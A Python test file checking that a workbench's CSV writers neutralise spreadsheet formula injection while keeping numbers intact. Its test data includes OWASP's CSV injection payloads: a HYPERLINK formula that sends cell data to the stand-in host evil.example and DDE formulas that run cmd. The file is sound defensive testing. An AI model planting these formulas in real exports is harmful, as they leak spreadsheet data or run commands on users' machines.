"""Every CSV the workbench writes is safe to open in a spreadsheet (CSV injection, CWE-1236).

Reference: OWASP, "CSV Injection" (https://owasp.org/www-community/attacks/CSV_Injection): cells
starting with ``=``, ``+``, ``-``, ``@``, tab (0x09) or carriage return (0x0D) are formulas to a
spreadsheet; prefix them with a single quote so they are shown as text. The files are read back
with Python's own :mod:`csv` module, independent of the pandas writer, and numbers must come back
unchanged (a negative number stays a number, not ``'-3``).
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from cryptography.fernet import Fernet

from methods.core import io as vio
from methods.data import protection
from methods.report import tables as reporting
from methods.synthetic import respond

SRC = Path(__file__).resolve().parents[1] / "src" / "methods"

#: (hostile cell, what a spreadsheet must receive) -- OWASP's payloads and the six triggers.
HOSTILE = [
    (
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
    ),
    ("=1+2", "'=1+2"),
    ("+1+2", "'+1+2"),
    ("-1+2", "'-1+2"),
    ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("\t=1+2", "'\t=1+2"),
    ("\r=1+2", "'\r=1+2"),
    ("-", "'-"),
    ("+ 44 7700 900123", "'+ 44 7700 900123"),
    ('=A1,"x"\n', '\'=A1,"x"\n'),
]
#: Cells that are not formulas and must pass through byte for byte.
HARMLESS = [
    "Durham North",
    "O'Neil",
    "a=b",
    "1-2 Main St",
    "",
    "-1.5",
    "+44",
    "1e-3",
    "07700 900123",
]


def _read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _read_file(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def _table() -> pd.DataFrame:
    n = len(HOSTILE) + len(HARMLESS)
    return pd.DataFrame(
        {
            "district": [h for h, _ in HOSTILE] + HARMLESS,
            "n": np.arange(n) - 5,  # negative integers
            "estimate": np.linspace(-2.5, 2.5, n),  # negative floats
            "area": pd.Categorical([h for h, _ in HOSTILE] + HARMLESS),
        }
    )


def _expected_text() -> list[str]:
    return [want for _, want in HOSTILE] + HARMLESS


def test_write_table_neutralises_every_trigger_and_keeps_numbers(tmp_path):
    df = _table()
    path = vio.write_table(df, tmp_path / "t.csv", float_digits=3)
    rows = _read_file(path)
    assert path.read_bytes().count(b"\r\n") == 0  # LF record endings kept
    assert rows[0] == ["district", "n", "estimate", "area"]
    body = rows[1:]
    assert [r[0] for r in body] == _expected_text()
    assert [r[3] for r in body] == _expected_text()
    # Numbers unchanged: the integers and the fixed-format floats, negatives included.
    assert [int(r[1]) for r in body] == list(range(-5, len(df) - 5))
    assert [r[2] for r in body] == [f"{x:.3f}" for x in df["estimate"]]
    assert body[0][1] == "-5" and body[0][2] == "-2.500"
    # The frame passed in is not modified.
    assert df["district"].iloc[0].startswith("=")


def test_no_written_text_cell_starts_like_a_formula(tmp_path):
    text = vio.csv_text(_table())
    for row in _read_back(text)[1:]:
        for cell in (row[0], row[3]):
            assert not cell.startswith(vio.FORMULA_TRIGGERS) or re.fullmatch(r"[+-][\d.e+-]+", cell)


def test_hostile_column_names_are_neutralised_too():
    df = pd.DataFrame({"=evil()": ["a"], "-x": [-1]})
    rows = _read_back(vio.csv_text(df))
    assert rows == [["'=evil()", "'-x"], ["a", "-1"]]


def test_missing_values_and_nullable_strings():
    df = pd.DataFrame({"s": pd.array(["=1", None, "ok"], dtype="string"), "x": [1.0, np.nan, -2.0]})
    rows = _read_back(vio.csv_text(df, float_digits=1))
    assert rows == [["s", "x"], ["'=1", "1.0"], ["", ""], ["ok", "-2.0"]]


def test_report_tables_use_the_one_writer():
    assert reporting.write_table is vio.write_table


def test_synthetic_extract_writer_neutralises(tmp_path):
    df = pd.DataFrame({"name": ['=HYPERLINK("x")', "Ann Lee"], "age": [-1, 40]})
    respond.write_csv(df, tmp_path / "v.csv")
    assert _read_file(tmp_path / "v.csv") == [
        ["name", "age"],
        ['\'=HYPERLINK("x")', "-1"],
        ["Ann Lee", "40"],
    ]


def test_contractor_extract_plaintext_is_neutralised():
    key = Fernet.generate_key()
    frame = pd.DataFrame(
        {
            "case_key": ["K1", "K2", "K3"],
            "name": ["@SUM(1+9)", "-2+3", "Jo Bloggs"],
            "address": ["=cmd|' /C calc'!A0", "1 High St", "+1+1"],
            "reported_date": ["2025-01-02", "2025-01-03", "2025-01-04"],
        }
    )
    sealed = protection.seal(frame, key)
    plain = Fernet(key).decrypt(sealed.token).decode("utf-8")
    assert _read_back(plain) == [
        ["case_key", "name", "address", "reported_date"],
        ["K1", "'@SUM(1+9)", "'=cmd|' /C calc'!A0", "2025-01-02"],
        ["K2", "'-2+3", "1 High St", "2025-01-03"],
        ["K3", "Jo Bloggs", "'+1+1", "2025-01-04"],
    ]


@pytest.mark.parametrize("cell", HARMLESS)
def test_harmless_cells_unchanged(cell):
    assert vio.neutralise_cell(cell) == cell


def test_no_other_csv_writer_in_the_package():
    """``to_csv`` / ``csv.writer`` appear only in core.io (the writer) and the store's sample hash."""
    allowed = {SRC / "core" / "io.py", SRC / "data" / "store.py"}
    found = {
        p
        for p in SRC.rglob("*.py")
        if re.search(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(", p.read_text())
    }
    assert found <= allowed, sorted(str(p) for p in found - allowed)
    # store.py's to_csv is a hash of the drawn sample, never a file.
    store = (SRC / "data" / "store.py").read_text()
    assert store.count(".to_csv(") == 1 and "hashlib.sha256(text.encode())" in store
